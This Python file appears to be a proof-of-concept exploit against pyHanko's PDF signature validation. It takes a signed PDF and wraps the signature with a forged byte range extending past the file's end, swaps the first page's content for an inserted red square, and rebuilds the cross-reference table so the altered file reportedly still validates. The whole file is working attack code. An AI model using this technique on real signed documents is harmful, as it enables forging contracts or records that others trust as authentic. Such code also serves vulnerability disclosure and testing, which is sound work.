"""Wrapping a signature: a file that shows something else, whose byte range ends past its end.

The range's second part is as long as the file grew, so that a reader which reads no further than it can hashes what was
signed, while the sum of the numbers is the file's length plus what was inserted. pyHanko 0.38 calls that valid.
"""

from __future__ import annotations

import io
from dataclasses import dataclass
from typing import Any

from pyhanko.pdf_utils.reader import PdfFileReader

EVIL = b"1 0 0 rg 0 0 400 400 re f"


@dataclass(frozen=True, slots=True, kw_only=True)
class _Parts:
    """What is taken from the good file; offsets are bytes."""

    pdf: bytes
    first: int
    second_start: int
    second: int
    entries: dict[int, tuple[int, int]]
    trailer: bytes
    xref_at: int
    signature: Any
    content: Any
    subfilter: bytes


def wrap(pdf: bytes) -> bytes:
    """Return the signed file wrapped into one that shows a red square on its first page."""
    parts = _parts(pdf)
    inserted = 0
    for _ in range(5):
        body, grown = _body(parts, inserted)
        if grown == inserted:
            break
        inserted = grown
    return body + pdf[parts.second_start :]


def _parts(pdf: bytes) -> _Parts:
    reader = PdfFileReader(io.BytesIO(pdf))
    signature = reader.embedded_signatures[-1]
    _, first, second_start, second = (int(number) for number in signature.byte_range)
    content: Any = reader.root["/Pages"]["/Kids"][0].raw_get("/Contents")
    table = reader.xrefs._xref_sections[-1].xref_data.standard_xrefs
    trailer = b"trailer\n<</Size %d/Root %d 0 R/Prev %d>>\n" % (
        int(reader.trailer_view["/Size"]),
        reader.root_ref.idnum,
        int(reader.trailer._trailer_revisions[0]["/Prev"]),
    )
    return _Parts(
        pdf=pdf,
        first=first,
        second_start=second_start,
        second=second,
        entries={number: (generation, offset) for number, (generation, offset) in table.items()},
        trailer=trailer,
        xref_at=int(reader.last_startxref),
        signature=signature.sig_field.raw_get("/V").reference,
        content=(content.raw_get(0) if hasattr(content, "raw_get") else content).reference,
        subfilter=str(signature.sig_object["/SubFilter"]).encode(),
    )


def _body(parts: _Parts, inserted: int) -> tuple[bytes, int]:
    """Return the file up to where the signed second part begins, and how much was inserted."""
    gap = parts.pdf[parts.first : parts.second_start]
    total = parts.first + len(gap) + inserted + parts.second
    page = b"%d %d obj\n<</Length %d>>stream\n%s\nendstream\nendobj\n" % (
        parts.content.idnum, parts.content.generation, len(EVIL), EVIL,
    )  # fmt: skip
    template = (
        b"%d %d obj\n<</Type/Sig/Filter/Adobe.PPKLite/SubFilter%s/ByteRange[0 %d %d %010d]/Contents%s>>\nendobj\n"
    )
    signature = template % (
        parts.signature.idnum, parts.signature.generation, parts.subfilter,
        parts.first, total - parts.second, parts.second + inserted, gap,
    )  # fmt: skip
    head = parts.pdf[: parts.first] + gap + b" " * (parts.xref_at - parts.second_start)
    entries = {
        number: (generation, offset if offset < parts.first else offset + inserted)
        for number, (generation, offset) in parts.entries.items()
    }
    numbers = sorted({*entries, parts.content.idnum, parts.signature.idnum})
    table_length = sum(len(b"%d 1\n" % number) + 20 for number in numbers)
    base = parts.xref_at + len(b"xref\n") + table_length + len(parts.trailer)
    entries[parts.content.idnum] = (parts.content.generation, base)
    entries[parts.signature.idnum] = (parts.signature.generation, base + len(page))
    table = b"".join(b"%d 1\n%010d %05d n \n" % (number, entries[number][1], entries[number][0]) for number in numbers)
    body = head + b"xref\n" + table + parts.trailer + page + signature
    return body, len(body) - parts.first - len(gap)
